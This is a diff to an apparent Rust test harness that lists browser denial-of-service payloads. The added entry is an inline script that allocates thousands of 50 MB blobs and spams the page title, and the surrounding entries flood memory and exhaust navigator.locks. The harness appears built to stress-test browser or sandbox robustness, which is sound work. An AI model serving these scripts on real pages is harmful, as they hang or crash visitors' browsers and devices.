@@ -36,6 +36,12 @@ pub const ATTACKS: &[Attack] = &[
             a.push(new Blob([new Uint8Array(5e7)]))`])));setInterval(()=>document.title+='x',10)</script>",
     },
     Attack {
+        name: "12 pages of blobs of answers",
+        clients: 12,
+        template: "<script>(async()=>{const a=[];for(let i=0;i<2000;i++)\
+            a.push(await new Response(new Uint8Array(5e7)).blob())})();setInterval(()=>document.title+='x',10)</script>",
+    },
+    Attack {
         name: "12 pages of locks",
         clients: 12,
         template: "<script>for(let i=0;i<2e5;i++)navigator.locks.request('n'+i,()=>new Promise(()=>{}))</script>",
